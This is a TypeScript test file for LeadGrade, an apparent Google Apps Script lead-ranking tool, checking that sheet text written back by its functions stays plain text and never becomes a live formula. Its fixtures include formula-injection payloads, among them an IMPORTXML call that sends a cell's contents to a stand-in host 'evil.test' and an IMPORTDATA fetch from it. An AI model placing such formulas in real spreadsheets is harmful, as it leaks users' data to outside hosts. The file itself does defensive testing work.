import { describe, expect, it } from "vitest";
import { standardPreset } from "../../src/core/index";
import {
  assignUnownedLeadsFromMenu,
  mergeDuplicateLeadsFromMenu,
  writeReportSheetFromMenu,
} from "../../src/sheets/menu";
import { onEdit } from "../../src/sheets/onEdit";
import { keepAsText } from "../../src/sheets/plainText";
import { runPriorityPass } from "../../src/sheets/priorityPass";
import { saveRules } from "../../src/sheets/rulesStore";
import { type FakeSpreadsheet, type GasFakes, installGasFakes } from "../support/gasFakes";

/** Cell text that Sheets would turn into a live formula, a broken one, or a number. */
const EXFILTRATE = '=IMPORTXML("http://evil.test/?"&A2,"//a")';
const LINK = '=HYPERLINK("http://evil.test","点我")';
const FETCH = '=IMPORTDATA("http://evil.test/x")';
const HOSTILE = [EXFILTRATE, LINK, FETCH, "+cmd", "-2+3", "@SUM(A1)", "'quoted", "0138"];

const HEADER = ["客户名称", "公司", "来源", "阶段", "状态", "负责人", "电话", "备注", "手动等级", "调整原因"];
const LEADS = [
  HEADER,
  [LINK, "甲公司", EXFILTRATE, "+cmd", "已成交", "@owner", "13812345678", "询问报价", "", ""],
  [LINK, "甲公司", EXFILTRATE, "+cmd", "丢单", "@owner", "13812345678", FETCH, "", ""],
  ["乙", "乙公司", "-2+3", "@SUM(A1)", "", "", "13900000000", "'quoted", "A", '=HYPERLINK("x")'],
  ["丙", "丙公司", "0138", "谈判", "", "", "13700000000", "", "", ""],
];

/** Every formula on every sheet, with where it is. */
function formulas(spreadsheet: FakeSpreadsheet): string[] {
  return spreadsheet.sheets.flatMap((sheet) =>
    sheet.formulas.flatMap((row, r) =>
      row.flatMap((f, c) => (f ? [`${sheet.getName()}!R${r + 1}C${c + 1}: ${f}`] : [])),
    ),
  );
}

function values(spreadsheet: FakeSpreadsheet, name: string): unknown[] {
  return spreadsheet.getSheetByName(name)?.values.flat() ?? [];
}

function setup(): GasFakes {
  const fakes = installGasFakes({
    sheets: { 线索: LEADS.map((r) => [...r]) },
    user: "boss@example.com",
  });
  const rules = { ...standardPreset(), reps: [{ name: '=HYPERLINK("rep")' }] };
  saveRules(
    fakes.documentProperties as unknown as GoogleAppsScript.Properties.Properties,
    rules,
    new Date("2026-11-20T00:00:00Z"),
  );
  return fakes;
}

describe("text from the sheet, written back by LeadGrade", () => {
  it("stays text through every writer: pass, audit, report, assignment, merge, edit trigger", () => {
    const fakes = setup();
    const { spreadsheet } = fakes;
    const lead = spreadsheet.sheets[0];
    if (!lead) throw new Error("no sheet");
    runPriorityPass({ now: new Date("2026-11-22T02:00:00Z"), remind: false, useActiveSheet: true });
    onEdit({ range: lead.getRange(4, 9) } as unknown as GoogleAppsScript.Events.SheetsOnEdit);
    writeReportSheetFromMenu();
    spreadsheet.active = 0;
    assignUnownedLeadsFromMenu();
    mergeDuplicateLeadsFromMenu();

    // The only formulas are the ones LeadGrade writes on purpose (the priority view's SORT).
    expect(formulas(spreadsheet).filter((f) => !f.includes("=IFERROR(SORT(FILTER("))).toEqual([]);
    for (const sheet of spreadsheet.sheets)
      expect(sheet.values.flat(), sheet.getName()).not.toContain("#ERROR!");
    // …and the text arrives as written.
    const report = values(spreadsheet, "LeadGrade 报告 Report");
    for (const text of [EXFILTRATE, "+cmd", "@SUM(A1)"]) expect(report).toContain(text);
    const audit = values(spreadsheet, "LeadGrade 审计 Audit").map(String);
    expect(audit.some((v) => v.startsWith(LINK))).toBe(true);
    expect(audit).toContain(LINK);
    expect(audit).toContain('=HYPERLINK("x")');
    expect(lead.values[1]?.[7]).toBe(`询问报价 | ${FETCH}`);
    expect(lead.values.map((r) => r[5])).toContain('=HYPERLINK("rep")');
  });

  it("is the same cell value after a round trip through a fake that parses like Sheets", () => {
    const fakes = setup();
    const sheet = fakes.spreadsheet.addSheet("scratch");
    sheet.getRange(1, 1, 1, HOSTILE.length).setValues([HOSTILE.map(keepAsText)]);
    expect(sheet.values[0]).toEqual(HOSTILE);
    expect(sheet.formulas[0]?.every((f) => f === "")).toBe(true);
  });
});
